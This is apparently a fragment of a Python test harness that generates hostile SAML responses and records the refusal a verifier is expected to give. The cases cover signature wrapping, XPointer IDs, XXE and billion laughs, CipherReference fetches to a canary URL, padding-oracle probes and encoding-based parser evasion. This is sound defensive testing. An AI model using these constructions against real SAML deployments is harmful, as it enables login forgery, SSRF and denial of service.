    _a("signature-sha1-digest-disallowed", sha1_digest, ("signature-algorithm",)),
    _a("signature-md5-digest", md5_digest, ("signature-algorithm",)),
    _a("signature-md5-rsa", md5_signature, ("signature-algorithm",)),
    _a("signature-md5-even-with-sha1-allowed", md5_digest, ("signature-algorithm",),
       options={"allow_sha1": True}),
    _a("signature-hmac", hmac_signature, ("signature-algorithm",)),
    _a("signature-assertion-required", same, ("signature-missing",),
       options={"require_signed_assertion": True}),
    # comments, entities, class values (accepted: exact values checked)
    _a("comment-in-nameid", comment_in_nameid, verdict="accept", check=check_comment_nameid),
    _a("comment-in-class", comment_in_class, verdict="accept", check=check_comment_class),
    _a("comment-in-class-two-statements", comment_in_class_and_mfa_second,
       verdict="accept", check=check_comment_class_two),
    _a("charref-cdata-in-values", char_refs_and_cdata, verdict="accept",
       check=check_char_refs),
    _a("entity-in-nameid", entity_in_nameid, ("xml-dtd",)),
    _a("entity-in-class", entity_in_class, ("xml-dtd",)),
    _a("class-whitespace-trimmed", class_whitespace, verdict="accept",
       check=check_whitespace),
] + [
    _a("class-lookalike-" + k, class_lookalike(k), verdict="accept", check=check_lookalike(k))
    for k in LOOKALIKES if k not in SPLITTING_LOOKALIKES
] + [
    # a class with white space inside reads as two classes to whoever splits
    # AUTHN_CONTEXT_CLASS (a NBSP too, for str.split()): no URI has one
    _a("class-lookalike-" + k, class_lookalike(k), ("xml-schema",),
       about="class value an application would split into several")
    for k in SPLITTING_LOOKALIKES
] + [
    _a("class-only-in-declref", class_only_in_declref, verdict="accept",
       check=check_declref_only),
    _a("class-only-in-attribute", class_only_in_attribute, verdict="accept",
       check=check_attribute_only),
    # hostile XML and encodings
    _a("doctype", doctype_plain, ("xml-dtd",)),
    _a("external-entity", doctype_external_entity, ("xml-dtd",)),
    _a("external-dtd", doctype_external_dtd, ("xml-dtd",)),
    _a("parameter-entity", doctype_parameter_entity, ("xml-dtd",)),
    _a("billion-laughs", billion_laughs, ("xml-dtd",)),
    _a("xinclude", xinclude, ("signature-invalid",)),
    _a("xinclude-http-in-extensions", xinclude_http, ("signature-invalid",)),
    _a("external-entity-http", external_entity_http, ("xml-dtd",)),
    _a("keyinfo-retrieval-method", keyinfo_retrieval_method, verdict="accept",
       check=check_keyinfo_ignored),
    _a("reference-external-uri", reference_external_uri,
       ("signature-reference", "signature-invalid")),
    _a("deep-nesting-100", deep_nesting(100), ("xml-too-deep",)),
    # libxml2's own cap (256 without XML_PARSE_HUGE) may fire before the
    # verifier's 64 when it checks depth after parsing
    _a("deep-nesting-5000", deep_nesting(5000), ("xml-too-deep", "xml-parse")),
    _a("huge-document", huge_document, ("too-large",)),
    _a("huge-document-base64", huge_document_base64, ("too-large",), raw=True),
    _a("huge-document-small-cap", same, ("too-large",), options={"max_size": 1024}),
    _a("invalid-utf8", invalid_utf8, ("xml-parse",)),
    _a("overlong-utf8", overlong_utf8, ("xml-parse",)),
    _a("nul-byte", nul_byte, ("xml-parse", "bad-input")),
    # a decoder may reject the odd length itself or decode a prefix that
    # then fails to parse: both refuse at the input stage
    _a("truncated-base64", truncated_base64, ("bad-input", "xml-parse"), raw=True),
    _a("base64-garbage", base64_garbage, ("bad-input",), raw=True),
    _a("two-samlresponse-fields", same, ("binding-invalid",), transports=("http",)),
    _a("non-post-to-acs", same, ("binding-invalid",), transports=("http",)),
    # protocol
    _a("replay", same, ("replay",), options={"allow_unsolicited": True, "no_request": True},
       prime=(lambda s, c: s,), base="unsolicited"),
    _a("replay-solicited", same, ("replay", "in-response-to-unknown"), prime=(same,)),
    _a("expired", expired, ("expired",)),
    _a("expired-subject-confirmation", expired_subject_only, ("expired",)),
    _a("not-yet-valid", not_yet_valid, ("not-yet-valid",)),
    _a("wrong-audience", wrong_audience, ("audience-mismatch",)),
    _a("audience-prefix", audience_prefix, ("audience-mismatch",)),
    _a("wrong-destination", wrong_destination, ("destination-mismatch",)),
    _a("missing-destination", missing_destination, ("destination-mismatch", "xml-schema")),
    _a("wrong-recipient", wrong_recipient, ("recipient-mismatch",)),
    _a("wrong-issuer-assertion", wrong_issuer_assertion, ("issuer-mismatch",)),
    _a("unknown-issuer", unknown_issuer, ("unknown-idp",)),
    _a("in-response-to-unknown", in_response_to_unknown, ("in-response-to-unknown",)),
    _a("in-response-to-used-twice", answer_same_request, ("in-response-to-unknown",),
       prime=(same,)),
    _a("in-response-to-rewritten-unsigned-response", in_response_to_rewritten,
       ("in-response-to-unknown",), base="assertion"),
    _a("in-response-to-other-browser", same, ("in-response-to-unknown",),
       transports=("http",)),
    _a("unsolicited-disallowed", unsolicited, ("unsolicited-disallowed",)),
    _a("status-not-success-with-assertion", status_with_assertion,
       ("status-with-assertion",)),
    _a("subject-confirmation-holder-of-key", subject_confirmation_hok,
       ("subject-confirmation",)),
    _a("encrypted-to-other-key", encrypted_to_other_key, ("decrypt-failed",),
       options={"sp_key": True}),
    _a("encrypted-rsa-1_5-key-transport", encrypted_rsa_1_5, ("decrypt-failed",),
       options={"sp_key": True}),
    _a("encrypted-tampered-cbc", encrypted_tampered("aes128-cbc"), ("decrypt-failed",),
       options={"sp_key": True}),
    _a("encrypted-tampered-gcm", encrypted_tampered("aes256-gcm"), ("decrypt-failed",),
       options={"sp_key": True}),
]



# --- security review additions ---------------------------------------------------

def _encrypted_for_sp(ctx, data_alg="aes256-gcm"):
    root = ctx.tree()
    sf.sign(root, "assertion", ctx.idp)
    sf.encrypt_assertion(root, ctx.sp_cert_pem, "rsa-oaep", data_alg)
    return root


def _cipher_reference(cipher_data, url):
    """Replaces CipherData's CipherValue by a CipherReference to url (XML
    Encryption 3.3.1): a decrypter that follows it fetches what the sender
    names (SSRF, local file read)."""
    for cv in cipher_data.findall(_q(sf.NS_XENC, "CipherValue")):
        cipher_data.remove(cv)
    cr = etree.SubElement(cipher_data, _q(sf.NS_XENC, "CipherReference"))
    cr.set("URI", url)


def cipher_reference_data(signed, ctx):
    root = _encrypted_for_sp(ctx)
    ed = root.find(".//{%s}EncryptedData" % sf.NS_XENC)
    _cipher_reference(ed.find(_q(sf.NS_XENC, "CipherData")), ctx.canary_url + "cipher-data")
    return _out(root)


def cipher_reference_key(signed, ctx):
    root = _encrypted_for_sp(ctx)
    ek = root.find(".//{%s}EncryptedKey" % sf.NS_XENC)
    _cipher_reference(ek.find(_q(sf.NS_XENC, "CipherData")), ctx.canary_url + "cipher-key")
    return _out(root)


ATTACKS += [
    _a("encrypted-cipher-reference-data", cipher_reference_data, ("decrypt-failed",),
       options={"sp_key": True},
       about="EncryptedData CipherReference to a URL (must not be fetched)"),
    _a("encrypted-cipher-reference-key", cipher_reference_key, ("decrypt-failed",),
       options={"sp_key": True},
       about="EncryptedKey CipherReference to a URL (must not be fetched)"),
]


def id_xpointer(signed, ctx):
    """The Response's ID is an XPointer expression: xmlsec turns a "#..."
    Reference into xpointer(id('...')) (or takes "#xpointer(...)" as one),
    so the signature digests only the Assertion while a lookup of the ID
    still finds the Response. SAML core 1.3.4: an ID is an xs:ID (NCName)."""
    root = ctx.tree()
    a = root.find(_q(NS_SAML, "Assertion"))
    root.set("ID", "xpointer(id('%s'))" % a.get("ID"))
    sf.sign(root, "response", ctx.idp)
    return _out(root)


ATTACKS += [
    _a("signature-id-xpointer", id_xpointer, ("signature-reference", "xml-schema"),
       about="Response ID that xmlsec reads as an XPointer to the Assertion"),
]


def _retrieval_method(parent, url, type_uri):
    rm = etree.SubElement(parent, _q(NS_DS, "RetrievalMethod"))
    rm.set("URI", url)
    rm.set("Type", type_uri)
    return rm


def encrypted_data_retrieval_method(signed, ctx):
    """The EncryptedData's KeyInfo names its EncryptedKey by a network URL
    (RetrievalMethod, XML Encryption 3.5.1); the real EncryptedKey is a
    sibling in the EncryptedAssertion (SAML core 2.3.4). The SP finds the
    key by position only: accepted, and nothing is fetched."""
    root = _encrypted_for_sp(ctx)
    ea = root.find(_q(NS_SAML, "EncryptedAssertion"))
    ek = root.find(".//{%s}EncryptedKey" % sf.NS_XENC)
    ki = ek.getparent()
    ki.remove(ek)
    ea.append(ek)
    _retrieval_method(ki, ctx.canary_url + "encrypted-key",
                      "http://www.w3.org/2001/04/xmlenc#EncryptedKey")
    return _out(root)


def encrypted_key_retrieval_method(signed, ctx):
    """The EncryptedKey's own KeyInfo points at a key on the network: the
    SP key is configured, never looked up; accepted, nothing fetched."""
    root = _encrypted_for_sp(ctx)
    ek = root.find(".//{%s}EncryptedKey" % sf.NS_XENC)
    ki = ek.find(_q(NS_DS, "KeyInfo"))
    if ki is None:
        ki = etree.Element(_q(NS_DS, "KeyInfo"))
        ek.insert(1, ki)
    for c in list(ki):
        ki.remove(c)
    _retrieval_method(ki, ctx.canary_url + "sp-key.crt",
                      "http://www.w3.org/2000/09/xmldsig#rawX509Certificate")
    return _out(root)


def check_decrypted(rec, ctx):
    """decrypted with the configured SP key: alice, PasswordProtectedTransport"""
    assert rec["name_id"]["value"] == GOOD_NAME
    assert _classes(rec) == [sf.PPT]


ATTACKS += [
    _a("encrypted-data-retrieval-method", encrypted_data_retrieval_method,
       verdict="accept", check=check_decrypted, options={"sp_key": True},
       about="EncryptedData KeyInfo RetrievalMethod URL (never fetched)"),
    _a("encrypted-key-retrieval-method", encrypted_key_retrieval_method,
       verdict="accept", check=check_decrypted, options={"sp_key": True},
       about="EncryptedKey KeyInfo RetrievalMethod URL (never fetched)"),
]


def encrypted_cbc_oracle(signed, ctx):
    """An unsigned Response whose AES-CBC EncryptedAssertion decrypts to an
    Assertion the trusted IdP did not sign: what a padding/parsing oracle
    probe looks like once it parses. Refused with the same reason as a
    ciphertext that does not decrypt (Jager and Somorovsky, CCS 2011)."""
    root = ctx.tree()
    sf.sign(root, "assertion", ctx.attacker)
    sf.encrypt_assertion(root, ctx.sp_cert_pem, "rsa-oaep", "aes128-cbc")
    return _out(root)


ATTACKS += [
    _a("encrypted-cbc-oracle", encrypted_cbc_oracle, ("decrypt-failed",),
       options={"sp_key": True},
       about="CBC plaintext in an unsigned Response: one reason for every refusal"),
]


def many_attributes(signed, ctx):
    """20000 attributes on the Response element (under the size cap): a
    parser that checks duplicates pairwise spends seconds on one POST."""
    root = _parse(signed)
    for i in range(20000):
        root.set("a%d" % i, "")
    return _out(root)


ATTACKS += [
    _a("many-attributes", many_attributes, ("too-large",),
       about="20000 attributes on one element (quadratic duplicate check)"),
]


def transform_enveloped_only(signed, ctx):
    """Only the enveloped-signature transform: xmlsec then digests with its
    default, inclusive C14N 1.0 (XML Signature 4.4.3.2), which the explicit
    inclusive-c14n attack shows is refused (DESIGN: exclusive C14N with the
    enveloped-signature transform)."""
    return _fresh_signed(ctx, transforms=["enveloped"])


def transform_repeated(signed, ctx):
    """The allowed transforms, but one of them twice."""
    return _fresh_signed(ctx, transforms=["enveloped", "exc-c14n", "exc-c14n"])


ATTACKS += [
    _a("signature-transform-enveloped-only", transform_enveloped_only,
       ("signature-transform",), about="implicit inclusive C14N after enveloped"),
    _a("signature-transform-repeated", transform_repeated, ("signature-transform",),
       about="exclusive C14N listed twice"),
]


# --- strict structure (SAML core 3.2.2, 2.3.3: the OASIS schemas) ---------------
# Each response below is really signed by the trusted IdP AFTER the change,
# so every signature verifies and every other check passes: only the
# structure check can refuse it. Before it, each one was accepted, the odd
# part ignored; whatever else reads the message (a proxy, a log, the
# application given the raw response) might read that part instead.

NS_TYPO = "urn:oasis:names:tc:SAML:2.0:assertlon"  # one letter off
NS_SAML1 = "urn:oasis:names:tc:SAML:1.0:assertion"
NS_FOREIGN = "urn:example:extension"
NS_XENC = sf.NS_XENC
NS_XSI = sf.NS_XSI


def _signed_tree(ctx, edit, sign="both", **kw):
    """ctx.tree(**kw), edited by edit(root), then signed as `sign` says."""
    root = ctx.tree(**kw)
    edit(root)
    sf.sign(root, sign, ctx.idp)
    return _out(root)


def _sub(a, name):
    return a.find(_q(NS_SAML, name))


def _lookalike_assertion(ctx, ns):
    """An evil assertion whose elements are all in namespace ns."""
    a = _evilize(copy.deepcopy(_assertion(ctx.tree())))
    for el in a.iter():
        if isinstance(el.tag, str) and el.tag.startswith("{%s}" % NS_SAML):
            el.tag = "{%s}%s" % (ns, etree.QName(el).localname)
    return a


def structure_authn_statement_under_response(signed, ctx):
    """An MFA AuthnStatement directly under the Response (after the signed
    Assertion): no reader of SAML should find a statement there."""
    def edit(root):
        st = copy.deepcopy(_sub(_assertion(root), "AuthnStatement"))
        st.find(".//" + _q(NS_SAML, "AuthnContextClassRef")).text = EVIL_CLASS
        root.append(st)
    return _signed_tree(ctx, edit, sign="response")


def structure_lookalike_response_child(signed, ctx):
    """A second Assertion in a one-letter-off namespace after the real one."""
    def edit(root):
        root.append(_lookalike_assertion(ctx, NS_TYPO))
    return _signed_tree(ctx, edit, sign="response")


def structure_lookalike_in_advice(signed, ctx):
    """Advice allows ##other elements: a look-alike Assertion there (a typo'd
    namespace) is refused although the schema's wildcard admits it."""
    def edit(root):
        a = _assertion(root)
        adv = etree.Element(_q(NS_SAML, "Advice"))
        adv.append(_lookalike_assertion(ctx, NS_TYPO))
        a.insert(list(a).index(_sub(a, "Conditions")) + 1, adv)
    return _signed_tree(ctx, edit)


def structure_saml1_in_advice(signed, ctx):
    """A SAML 1.x namespace Assertion in Advice (##other): a look-alike."""
    def edit(root):
        a = _assertion(root)
        adv = etree.Element(_q(NS_SAML, "Advice"))
        adv.append(_lookalike_assertion(ctx, NS_SAML1))
        a.insert(list(a).index(_sub(a, "Conditions")) + 1, adv)
    return _signed_tree(ctx, edit)


def structure_lookalike_in_extensions(signed, ctx):
    """samlp:Extensions allows ##other: a look-alike Assertion there."""
    def edit(root):
        _insert_extensions(root, [_lookalike_assertion(ctx, NS_TYPO)])
    return _signed_tree(ctx, edit, sign="response")


def structure_assertion_in_extensions(signed, ctx):
    """A real saml:Assertion (evil, own ID) in samlp:Extensions, whose ##other
    wildcard admits the assertion namespace: the whole Response is signed,
    so no wrapping check objects; the assertion is simply misplaced."""
    def edit(root):
        _insert_extensions(root, [_evilize(copy.deepcopy(_assertion(root)))])
    return _signed_tree(ctx, edit, sign="response")


def structure_unknown_child(signed, ctx):
    """A foreign element among the Assertion's children (not in Extensions)."""
    def edit(root):
        a = _assertion(root)
        el = etree.Element("{%s}Note" % NS_FOREIGN)
        el.text = EVIL_CLASS
        a.insert(list(a).index(_sub(a, "Conditions")), el)
    return _signed_tree(ctx, edit)


def structure_wrong_order(signed, ctx):
    """Conditions before Subject (the schema's sequence is Issuer, Signature,
    Subject, Conditions, Advice, statements)."""
    def edit(root):
        a = _assertion(root)
        cond = _sub(a, "Conditions")
        a.remove(cond)
        a.insert(list(a).index(_sub(a, "Subject")), cond)
    return _signed_tree(ctx, edit)


def structure_repeated_class(signed, ctx):
    """Two AuthnContextClassRef in one AuthnContext (the schema allows one)."""
    def edit(root):
        ref = _assertion(root).find(".//" + _q(NS_SAML, "AuthnContextClassRef"))
        second = etree.Element(_q(NS_SAML, "AuthnContextClassRef"))
        second.text = EVIL_CLASS
        ref.addnext(second)
    return _signed_tree(ctx, edit)


def structure_repeated_confirmation_data(signed, ctx):
    """Two SubjectConfirmationData in one SubjectConfirmation."""
    def edit(root):
        scd = _assertion(root).find(".//" + _q(NS_SAML, "SubjectConfirmationData"))
        scd.addnext(copy.deepcopy(scd))
    return _signed_tree(ctx, edit)


def structure_two_subjects(signed, ctx):
    """A second Subject (admin) after the first: the schema allows one."""
    def edit(root):
        subj = _sub(_assertion(root), "Subject")
        second = copy.deepcopy(subj)
        second.find(_q(NS_SAML, "NameID")).text = EVIL_NAME
        subj.addnext(second)
    return _signed_tree(ctx, edit)


def structure_two_nameids(signed, ctx):
    """Two NameIDs in one Subject (admin second)."""
    def edit(root):
        nid = _assertion(root).find(".//" + _q(NS_SAML, "NameID"))
        second = copy.deepcopy(nid)
        second.text = EVIL_NAME
        nid.addnext(second)
    return _signed_tree(ctx, edit)


def structure_unknown_attribute(signed, ctx):
    """An unqualified attribute the schema does not declare, on Subject."""
    def edit(root):
        _sub(_assertion(root), "Subject").set("Format", "admin")
    return _signed_tree(ctx, edit)


def structure_saml_namespace_attribute(signed, ctx):
    """An attribute in the SAML protocol namespace on saml:Attribute, whose
    anyAttribute ##other admits it: SAML declares no such attribute."""
    def edit(root):
        st = etree.SubElement(_assertion(root), _q(NS_SAML, "AttributeStatement"))
        at = etree.SubElement(st, _q(NS_SAML, "Attribute"), Name="role")
        at.set(_q(NS_SAMLP, "Evil"), EVIL_CLASS)
        etree.SubElement(at, _q(NS_SAML, "AttributeValue")).text = "staff"
    return _signed_tree(ctx, edit)


def structure_statement_in_status_detail(signed, ctx):
    """samlp:StatusDetail (##any) carrying an MFA AuthnStatement."""
    def edit(root):
        st = root.find(_q(NS_SAMLP, "Status"))
        det = etree.SubElement(st, _q(NS_SAMLP, "StatusDetail"))
        stmt = copy.deepcopy(_sub(_assertion(root), "AuthnStatement"))
        stmt.find(".//" + _q(NS_SAML, "AuthnContextClassRef")).text = EVIL_CLASS
        det.append(stmt)
    return _signed_tree(ctx, edit, sign="response")


def structure_response_in_advice(signed, ctx):
    """A samlp:Response in saml:Advice (##other admits the protocol namespace)."""
    def edit(root):
        a = _assertion(root)
        inner = ctx.tree(response_id="_inner" + uuid.uuid4().hex,
                         assertion_id="_innera" + uuid.uuid4().hex, name_id=EVIL_NAME)
        adv = etree.Element(_q(NS_SAML, "Advice"))
        adv.append(inner)
        a.insert(list(a).index(_sub(a, "Conditions")) + 1, adv)
    return _signed_tree(ctx, edit)


def structure_assertion_in_attribute_value(signed, ctx):
    """An evil saml:Assertion inside an AttributeValue (anyType)."""
    def edit(root):
        a = _assertion(root)
        st = etree.SubElement(a, _q(NS_SAML, "AttributeStatement"))
        at = etree.SubElement(st, _q(NS_SAML, "Attribute"), Name="delegation")
        val = etree.SubElement(at, _q(NS_SAML, "AttributeValue"))
        val.append(_evilize(copy.deepcopy(a)))
    return _signed_tree(ctx, edit)


def structure_error_status_extra(signed, ctx):
    """An IdP error status whose Response has a foreign child: refused as a
    malformed message, not passed on as the IdP's error."""
    def edit(root):
        root.append(etree.Element("{%s}Note" % NS_FOREIGN))
    return _signed_tree(ctx, edit, sign="response", status=sf.RESPONDER,
                        status2=sf.NO_AUTHN_CONTEXT, include_assertion=False)


def structure_encrypted_wrong_order(signed, ctx):
    """The decrypted Assertion (signed, then encrypted) has Conditions
    before Subject: the plaintext is held to the same schema."""
    root = ctx.tree()
    a = _assertion(root)
    cond = _sub(a, "Conditions")
    a.remove(cond)
    a.insert(list(a).index(_sub(a, "Subject")), cond)
    sf.sign(root, "assertion", ctx.idp)
    sf.encrypt_assertion(root, ctx.sp_cert_pem, "rsa-oaep", "aes128-gcm")
    sf.sign(root, "response", ctx.idp)
    return _out(root)


# The wildcards the schema does have stay usable: these are accepted.

def structure_valid_wildcards(signed, ctx):
    """Extensions with a foreign element; Advice with an AssertionIDRef, a
    (signed) Assertion and a foreign element; an EncryptedAttribute; values
    typed xs:integer, xs:anyType with element content, xsi:nil; xsi:type
    on NameID; xsi:schemaLocation naming a URL (never fetched)."""
    root = ctx.tree()
    ext = etree.Element("{%s}Info" % NS_FOREIGN)
    ext.text = "extension data"
    _insert_extensions(root, [ext])
    root.set(_q(NS_XSI, "schemaLocation"), "%s %sschema.xsd" % (NS_FOREIGN, ctx.canary_url))
    a = _assertion(root)
    a.find(".//" + _q(NS_SAML, "NameID")).set(_q(NS_XSI, "type"), "saml:NameIDType")
    adv = etree.Element(_q(NS_SAML, "Advice"))
    etree.SubElement(adv, _q(NS_SAML, "AssertionIDRef")).text = "_other-assertion"
    inner = sf.build_assertion(ctx.now, assertion_id="_advice" + uuid.uuid4().hex,
                               name_id="bob@example.org")
    sf.sign(inner, "assertion", ctx.idp)
    adv.append(inner)
    etree.SubElement(adv, "{%s}Evidence-note" % NS_FOREIGN).text = "x"
    a.insert(list(a).index(_sub(a, "Conditions")) + 1, adv)
    st = etree.SubElement(a, _q(NS_SAML, "AttributeStatement"))
    at = etree.SubElement(st, _q(NS_SAML, "Attribute"), Name="urn:oid:1.3.6.1.4.1.5923.1.1.1.7")
    v = etree.SubElement(at, _q(NS_SAML, "AttributeValue"))
    v.set(_q(NS_XSI, "type"), "xs:integer")
    v.text = "42"
    v = etree.SubElement(at, _q(NS_SAML, "AttributeValue"))
    v.set(_q(NS_XSI, "type"), "xs:anyType")
    etree.SubElement(v, "{%s}Entitlement" % NS_FOREIGN).text = "urn:example:staff"
    v = etree.SubElement(at, _q(NS_SAML, "AttributeValue"))
    v.set(_q(NS_XSI, "nil"), "true")
    ea = etree.SubElement(st, _q(NS_SAML, "EncryptedAttribute"))
    ed = etree.SubElement(ea, _q(NS_XENC, "EncryptedData"), nsmap={"xenc": NS_XENC})
    ed.set("Type", "http://www.w3.org/2001/04/xmlenc#Element")
    etree.SubElement(ed, _q(NS_XENC, "EncryptionMethod"),
                     Algorithm="http://www.w3.org/2009/xmlenc11#aes128-gcm")
    cd = etree.SubElement(ed, _q(NS_XENC, "CipherData"))
    etree.SubElement(cd, _q(NS_XENC, "CipherValue")).text = "AAECAwQFBgcICQoLDA0ODw=="
    # a NameID (eduPersonTargetedID style) as an attribute value
    at = etree.SubElement(st, _q(NS_SAML, "Attribute"), Name="urn:oid:1.3.6.1.4.1.5923.1.1.1.10")
    v = etree.SubElement(at, _q(NS_SAML, "AttributeValue"))
    nid = etree.SubElement(v, _q(NS_SAML, "NameID"),
                           Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent")
    nid.text = "opaque-123"
    sf.sign(root, "both", ctx.idp)
    return _out(root)


def check_valid_wildcards(rec, ctx):
    """accepted: alice with PasswordProtectedTransport, the values read"""
    assert rec["name_id"]["value"] == GOOD_NAME
    assert _classes(rec) == [sf.PPT]
    if "attributes" in rec:  # the CLI's record (the httpd runner reads variables)
        names = [at["name"] for at in rec["attributes"]]
        assert "urn:oid:1.3.6.1.4.1.5923.1.1.1.7" in names, rec["attributes"]


ATTACKS += [
    _a("structure-authn-statement-under-response", structure_authn_statement_under_response,
       ("xml-schema",), about="MFA AuthnStatement directly under a signed Response"),
    _a("structure-lookalike-response-child", structure_lookalike_response_child,
       ("xml-schema",), about="Assertion in a one-letter-off namespace in the Response"),
    _a("structure-lookalike-in-advice", structure_lookalike_in_advice, ("xml-schema",),
       about="typo'd-namespace Assertion in Advice (##other)"),
    _a("structure-saml1-in-advice", structure_saml1_in_advice, ("xml-schema",),
       about="SAML 1.x namespace Assertion in Advice (##other)"),
    _a("structure-lookalike-in-extensions", structure_lookalike_in_extensions,
       ("xml-schema",), about="typo'd-namespace Assertion in samlp:Extensions"),
    _a("structure-assertion-in-extensions", structure_assertion_in_extensions,
       ("xml-schema",), about="a real saml:Assertion in samlp:Extensions, all signed"),
    _a("structure-unknown-child", structure_unknown_child, ("xml-schema",),
       about="foreign element among the Assertion's children"),
    _a("structure-wrong-order", structure_wrong_order, ("xml-schema",),
       about="Conditions before Subject"),
    _a("structure-repeated-class", structure_repeated_class, ("xml-schema",),
       about="two AuthnContextClassRef in one AuthnContext"),
    _a("structure-repeated-confirmation-data", structure_repeated_confirmation_data,
       ("xml-schema",), about="two SubjectConfirmationData in one confirmation"),
    _a("structure-two-subjects", structure_two_subjects, ("xml-schema",),
       about="two Subjects in one Assertion (was no-subject)"),
    _a("structure-two-nameids", structure_two_nameids, ("xml-schema",),
       about="two NameIDs in one Subject (was no-subject)"),
    _a("structure-unknown-attribute", structure_unknown_attribute, ("xml-schema",),
       about="undeclared attribute on Subject"),
    _a("structure-saml-namespace-attribute", structure_saml_namespace_attribute,
       ("xml-schema",), about="samlp: attribute on saml:Attribute (anyAttribute ##other)"),
    _a("structure-statement-in-status-detail", structure_statement_in_status_detail,
       ("xml-schema",), about="AuthnStatement in samlp:StatusDetail (##any)"),
    _a("structure-response-in-advice", structure_response_in_advice, ("xml-schema",),
       about="samlp:Response in saml:Advice (##other)"),
    _a("structure-assertion-in-attribute-value", structure_assertion_in_attribute_value,
       ("xml-schema",), about="evil saml:Assertion inside an AttributeValue"),
    _a("structure-error-status-extra", structure_error_status_extra, ("xml-schema",),
       about="IdP error Response with a foreign child"),
    _a("structure-encrypted-wrong-order", structure_encrypted_wrong_order, ("xml-schema",),
       options={"sp_key": True}, about="decrypted Assertion with Conditions before Subject"),
    _a("structure-valid-wildcards", structure_valid_wildcards, verdict="accept",
       check=check_valid_wildcards,
       about="Extensions, Advice, EncryptedAttribute, xsi:type/nil: accepted"),
]


BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS), "duplicate attack names"


# --- encodings (issue 11, item 1) --------------------------------------------
# libxml2 decodes UTF-7 (declared) and EBCDIC (detected from "<?xm") by
# itself; a byte scan for '=' then sees none of the attributes of one start
# tag, and libxml2 2.9's pairwise duplicate check costs seconds per POST.
# Everything but UTF-8 is refused before libxml2 decodes a byte. The forms
# are the SAMLResponse value itself (base64), as the binding carries them.

HOSTILE_BUDGET = 256000    # decoded bytes: under the default 256 KiB cap


def _attr_names():
    import itertools
    import string
    taken = {"ID", "Version", "IssueInstant", "Destination", "InResponseTo"}
    rest = string.ascii_letters + string.digits
    for n in itertools.count(1):
        for f in string.ascii_letters:
            for t in itertools.product(rest, repeat=n - 1):
                name = f + "".join(t)
                if name not in taken:
                    yield name


def many_attributes_form(signed, kind, budget=HOSTILE_BUDGET):
    """The signed Response with as many extra attributes on its start tag
    as fit in budget bytes, in one of: utf8 (the plain form), utf7 ('=' as
    +AD0-), ebcdic (code page 037, declared IBM037), utf16 (BOM). Returns
    (document bytes, number of attributes)."""
    body = _body(signed).lstrip(b"\n").decode()
    if kind == "utf7":
        body = body.replace("+", "+-")
    head, tail = body.split(">", 1)
    decl = '<?xml version="1.0" encoding="%s"?>' % {
        "utf8": "UTF-8", "utf7": "UTF-7", "ebcdic": "IBM037", "utf16": "UTF-16"}[kind]
    enc = {"utf8": "utf-8", "utf7": "ascii", "ebcdic": "cp037", "utf16": "utf-16-le"}[kind]
    attr = " %s+AD0-''" if kind == "utf7" else " %s=''"
    out = [(decl + head).encode(enc)]
    end = (">" + tail).encode(enc)
    used = len(out[0]) + len(end) + (2 if kind == "utf16" else 0)
    n = 0
    for name in _attr_names():
        a = (attr % name).encode(enc)
        if used + len(a) > budget:
            break
        out.append(a)
        used += len(a)
        n += 1
    doc = b"".join(out) + end
    return (b"\xff\xfe" + doc if kind == "utf16" else doc), n


def _many_attributes(kind):
    def build(signed, ctx):
        return base64.b64encode(many_attributes_form(signed, kind)[0])
    build.__name__ = "many_attributes_" + kind
    return build


def _reencoded(decl_encoding, codec, bom=b""):
    def build(signed, ctx):
        text = '<?xml version="1.0" encoding="%s"?>' % decl_encoding + \
            _body(signed).decode()
        return base64.b64encode(bom + text.encode(codec))
    build.__name__ = "reencoded_" + codec.replace("-", "_")
    return build


def declared_only(signed, ctx):
    """UTF-8 bytes (ASCII, in fact) declared as ISO-8859-1: still refused,
    the declaration alone decides nothing but refusal."""
    return b'<?xml version="1.0" encoding="ISO-8859-1"?>' + _body(signed)


ATTACKS += [
    _a("many-attributes-utf7", _many_attributes("utf7"), ("xml-encoding",), raw=True,
       about="attributes hidden from the pre-scan by UTF-7 ('=' as +AD0-)"),
    _a("many-attributes-ebcdic", _many_attributes("ebcdic"), ("xml-encoding",), raw=True,
       about="attributes hidden from the pre-scan by EBCDIC (detected by libxml2)"),
    _a("many-attributes-utf16", _many_attributes("utf16"), ("xml-encoding",), raw=True,
       about="the same in UTF-16 with a BOM"),
    _a("charset-utf16-bom", _reencoded("UTF-16", "utf-16-le", b"\xff\xfe"),
       ("xml-encoding",), raw=True, about="a valid response in UTF-16 (BOM): refused"),
    _a("charset-utf16be-no-bom", _reencoded("UTF-16", "utf-16-be"), ("xml-encoding",),
       raw=True, about="a valid response in UTF-16BE without a BOM"),
    _a("charset-ucs4", _reencoded("UCS-4", "utf-32-le"), ("xml-encoding",), raw=True,
       about="a valid response in UCS-4"),
    _a("charset-declared-latin1", declared_only, ("xml-encoding",),
       about="ASCII bytes declared ISO-8859-1"),
]


# --- decryption in context (issue 11, item 8) ---------------------------------

def encrypted_in_context(signed, ctx):
    """The plaintext Assertion uses the saml prefix declared on the Response
    only (XML Encryption 4.5: parsed where the EncryptedData stood)."""
    root = ctx.tree()
    sf.sign(root, "assertion", ctx.idp)
    sf.encrypt_assertion(root, ctx.sp_cert_pem, "rsa-oaep", "aes256-gcm", in_context=True)
    return _out(root)


def _in_context_plaintext(edit, **tree_kw):
    def build(signed, ctx):
        root = ctx.tree(**tree_kw)
        sf.sign(root, "assertion", ctx.idp)
        a = root.find(_q(NS_SAML, "Assertion"))
        plain = edit(sf._without_saml_declaration(a))
        sf.encrypt_assertion(root, ctx.sp_cert_pem, "rsa-oaep", "aes256-gcm",
                             in_context=True, plaintext=plain)
        return _out(root)
    return build


def _deep_element(depth):
    deep = etree.Element("{urn:example:deep}d", nsmap={"x": "urn:example:deep"})
    cur = deep
    for _ in range(depth):
        cur = etree.SubElement(cur, "{urn:example:deep}d")
    return deep


ATTACKS += [
    _a("encrypted-in-context", encrypted_in_context, verdict="accept",
       check=check_decrypted, options={"sp_key": True},
       about="plaintext relies on the Response's saml declaration: decrypted, verified"),
    _a("encrypted-in-context-doctype",
       _in_context_plaintext(lambda p: b'<!DOCTYPE a [<!ENTITY e "admin">]>' + p),
       ("xml-dtd",), options={"sp_key": True},
       about="DOCTYPE in the decrypted content"),
    _a("encrypted-in-context-too-deep",
       _in_context_plaintext(lambda p: p, advice=[_deep_element(200)]),
       ("xml-too-deep",), options={"sp_key": True},
       about="decrypted content nested past the depth cap"),
    _a("encrypted-in-context-utf7",
